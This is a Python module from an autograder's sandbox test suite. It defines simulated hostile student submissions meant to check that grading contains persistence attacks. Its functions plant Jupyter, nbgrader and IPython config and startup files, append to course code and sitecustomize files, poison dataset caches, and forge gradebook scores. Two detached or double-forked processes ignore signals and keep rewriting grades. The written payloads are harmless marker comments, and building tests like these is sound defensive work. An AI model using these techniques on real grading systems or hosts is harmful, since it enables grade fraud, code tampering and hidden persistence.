"""Class 1, persistence: leave something behind that runs, or counts, after this submission.

Every file these attacks write holds ``ATTACK_MARK`` and nothing that runs (comments, a
``.pth`` line that is a comment), so that if one ever got through on a developer's machine it
would be found by the test and be harmless until deleted.
"""

from __future__ import annotations

from autograder.attacks.core import Targets, attack


@attack(1, depends=("files",))
def config_files(t: Targets) -> str:
    """Plant nbgrader and Jupyter configuration where the instructor's tools would load it.

    Writes ``nbgrader_config.py``, ``nbgrader_config.json``, ``jupyter_config.py`` into the
    host's temp dir, the course root, ``autograder/``, ``~/.jupyter`` and every folder of
    Jupyter's config path, and into the pipeline's private config folders
    (``<tmp>/gancourse-nbgrader-*``); appends to ``autograder/nbgrader_config.py``. A config
    there could drop ``ClearSolutions`` and publish the answers with the next release.
    Contained: none of these files exists after the run and the course's config is unchanged.
    """
    return t.fill(
        """
        payload = f"# {_ATK_MARK} config_files: planted by a hostile submission, delete me\\n"
        folders = list(${config_dirs}) + _atk_expand(${host_tmp} + "/gancourse-nbgrader-*")
        names = ("nbgrader_config.py", "nbgrader_config.json", "jupyter_config.py")
        targets = [_atk_os.path.join(f, n) for f in folders for n in names]
        landed = [p for p in targets if _atk_write(p, payload, "w", create=True)]
        if _atk_write(${nbgrader_config}, payload):
            landed.append(${nbgrader_config})
        return f"{len(landed)} of {len(targets) + 1} writes worked, seen from inside: {landed}"
        """
    )


@attack(1, depends=("files",))
def ipython_startup(t: Targets) -> str:
    """Plant IPython startup files and profiles that every later kernel would run.

    Writes ``~/.ipython/profile_default/startup/00-*.py`` and ``ipython_config.py`` (the
    instructor's, by its real path), the environment's and ``/etc``'s ``ipython_config.py``,
    and the same in the kernel's own ``$IPYTHONDIR``. Contained: the instructor's ``~/.ipython``
    tree and the environment are unchanged; what lands in the kernel's private home dies with
    it.
    """
    return t.fill(
        """
        payload = f"# {_ATK_MARK} ipython_startup: planted by a hostile submission, delete me\\n"
        startup = ${ipython_startup}
        ipython_dir = _atk_os.environ.get("IPYTHONDIR", "")
        targets = [
            startup + "/00-gancourse-attack.py",
            _atk_os.path.dirname(startup) + "/ipython_config.py",
            ${venv} + "/etc/ipython/ipython_config.py",
            "/etc/ipython/ipython_config.py",
            ipython_dir + "/profile_default/startup/00-gancourse-attack.py",
        ]
        landed = [p for p in targets if _atk_write(p, payload, "w", create=True)]
        return f"{len(landed)} of {len(targets)} writes worked, seen from inside: {landed}"
        """
    )


@attack(1, depends=("files", "honest"))
def course_package(t: Targets) -> str:
    """Append to the course's code: the package, the pipeline, the interpreter's startup.

    Appends to every ``gancourse/*.py`` and ``autograder/*.py`` of the repository (the
    pipeline, the sandbox, ``sandbox_enter.py`` that runs as root), to the run's read-only copy
    of the package that every jail imports, and drops a ``.pth`` file, ``sitecustomize.py`` and
    ``usercustomize.py`` into the instructor's site-packages and the sandbox's Python copy.
    Contained: every file of the repository and the environment is unchanged, no new file is
    there, and the honest students graded after it get their marks.
    """
    return t.fill(
        """
        payload = f"\\n# {_ATK_MARK} course_package: appended by a hostile submission\\n"
        appended = _atk_expand(
            ${package} + "/*.py",
            ${autograder} + "/*.py",
            ${state} + "/runs/*/lib/gancourse/*.py",
            _atk_os.environ.get("PYTHONPATH", "/nonexistent") + "/gancourse/*.py",
        )
        created = []
        for site in _atk_expand(${site_packages}, ${state} + "/python/venv/lib/python3*/site-packages"):
            created += [site + f"/{_ATK_MARK}.pth", site + "/sitecustomize.py"]
            created += [site + "/usercustomize.py"]
        landed = [p for p in appended if _atk_write(p, payload)]
        landed += [p for p in created if _atk_write(p, payload, "w")]
        return f"{len(landed)} of {len(appended) + len(created)} writes worked: {landed}"
        """
    )


@attack(1, depends=("files", "honest"))
def dataset_cache(t: Targets) -> str:
    """Poison the decoded datasets that the instructor and the other submissions load.

    Overwrites bytes inside every file of the instructor's ``$GANCOURSE_CACHE_DIR`` (by its real
    path), of the run's cache that every jail reads (the kernel's ``$GANCOURSE_CACHE_DIR``) and
    of the sandbox's other runs, and appends to the committed datasets under ``data/``.
    Contained: the instructor's cache and ``data/`` are unchanged, and the honest students
    graded in the same run get their marks.
    """
    return t.fill(
        """
        poison = f"{_ATK_MARK} dataset_cache".encode() * 8
        files = _atk_expand(
            ${cache_dir} + "/**/*",
            _atk_os.environ.get("GANCOURSE_CACHE_DIR", "/nonexistent") + "/**/*",
            ${state} + "/runs/*/cache/**/*",
            ${data} + "/**/*",
        )
        files = [p for p in files if _atk_os.path.isfile(p)]
        landed = []
        for path in files:
            try:
                with open(path, "r+b") as handle:
                    if path.startswith(${data}):
                        handle.seek(0, 2)  # the committed files: only appended to
                    else:
                        handle.seek(256)
                    handle.write(poison)
                landed.append(path)
            except OSError:
                pass
        return f"{len(landed)} of {len(files)} files poisoned: {landed[:5]}"
        """
    )


@attack(1, depends=("files", "grades"))
def grade_files(t: Targets) -> str:
    """Rewrite grades while grading is under way: gradebooks, staged results, OUT.

    Sets every grade's auto and manual score to 1000 in the course gradebook, the run's
    template gradebook, each worker's copy (``<tmp>/grade-*/gradebook.db``) and the default
    ``autograder/work/gradebook.db``; appends a forged full-marks row to ``OUT/grades.csv``;
    plants forged feedback pages in ``OUT/.incoming``, ``OUT/feedback`` and the workers'
    folders. Contained: the grades in ``grades.csv`` and in the course gradebook are those the
    notebooks earned, and ``OUT/feedback`` holds only the class's students.
    """
    return t.fill(
        """
        name = ${assignment}
        forged = 0
        databases = [${course_gradebook}, ${out_gradebook}, ${default_gradebook}]
        databases += _atk_expand(${host_tmp} + "/grade-*/gradebook.db")
        for database in databases:
            try:
                connection = _atk_sqlite3.connect(f"file:{database}?mode=rw", uri=True, timeout=1)
                connection.execute("update grade set auto_score = 1000, manual_score = 1000")
                connection.commit()
                forged += 1
            except Exception:
                pass
        row = "\\nzz-forged," + name + "," + name + ",100.0,100.0,graded\\n"
        page = "<p>Score: 100 / 100</p>"
        files = {
            ${grades_csv}: row,
            ${incoming} + "/zz-forged/" + name + "/feedback/" + name + ".html": page,
            ${out} + "/feedback/zz-forged/" + name + "/" + name + ".html": page,
        }
        for path in _atk_expand(${host_tmp} + "/grade-*/feedback/*/*"):
            files[path + "/" + name + ".html"] = page
        written = [p for p, text in files.items() if _atk_write(p, text)]
        return f"{forged} of {len(databases)} gradebooks forged; files written: {written}"
        """
    )


_DETACHED = """
import os, signal, sqlite3, time
for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
time.sleep(SLEEP)
end = time.time() + TRIES
while time.time() < end:
    for path in FILES:
        try:
            with open(path, "a") as handle:
                handle.write(ROW)
        except OSError:
            pass
    for database in DATABASES:
        try:
            connection = sqlite3.connect("file:%s?mode=rw" % database, uri=True, timeout=0.2)
            connection.execute("update grade set auto_score = 1000, manual_score = 1000")
            connection.commit()
        except Exception:
            pass
    time.sleep(0.5)
"""


def _detached_program(t: Targets) -> str:
    """The code of a detached process: sleep, then rewrite the grades again and again."""
    return t.fill(
        """
        program = ${program}.replace("SLEEP", str(${detached_sleep}))
        program = program.replace("TRIES", str(${detached_tries}))
        program = program.replace("FILES", repr([${grades_csv}, ${grades_json}, ${out} + "/autograde.log"]))
        databases = [${course_gradebook}, ${out_gradebook}] + _atk_expand(${host_tmp} + "/grade-*/gradebook.db")
        program = program.replace("DATABASES", repr(databases))
        program = program.replace("ROW", repr("zz-forged,x,x,100.0,100.0,graded\\n"))
        """,
        program=_DETACHED,
    )


@attack(1, depends=("processes", "grades"))
def detached_popen(t: Targets) -> str:
    """A process in a session of its own that sleeps past grading, then rewrites the grades.

    ``subprocess.Popen(..., start_new_session=True)`` with SIGHUP, SIGTERM and SIGINT ignored;
    it sleeps a few seconds, then for a dozen more keeps appending a forged row to
    ``OUT/grades.csv`` and setting every score in the course and run gradebooks to 1000.
    Contained: the jail is emptied when the submission is done, no process of a sandbox uid is
    left, and ``grades.csv`` is the same long after the run.
    """
    return _detached_program(t) + t.fill(
        """
        import subprocess
        child = subprocess.Popen(
            [_atk_sys.executable, "-c", program],
            start_new_session=True,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        return f"started pid {child.pid} in its own session"
        """
    )


@attack(1, depends=("processes", "grades"))
def double_fork(t: Targets) -> str:
    """The daemon's double fork: a grandchild, orphaned, in a new session, rewriting grades.

    The same program as :func:`detached_popen`, run by a grandchild that called ``setsid`` and
    whose parent exited, so that no process of the kernel's waits for it. Contained: as for
    ``detached_popen``.
    """
    return _detached_program(t) + t.fill(
        """
        first = _atk_os.fork()
        if first == 0:
            try:
                _atk_os.setsid()
                if _atk_os.fork() == 0:
                    try:
                        exec(program, {})
                    finally:
                        _atk_os._exit(0)
            finally:
                _atk_os._exit(0)
        _atk_os.waitpid(first, 0)
        return "grandchild detached"
        """
    )
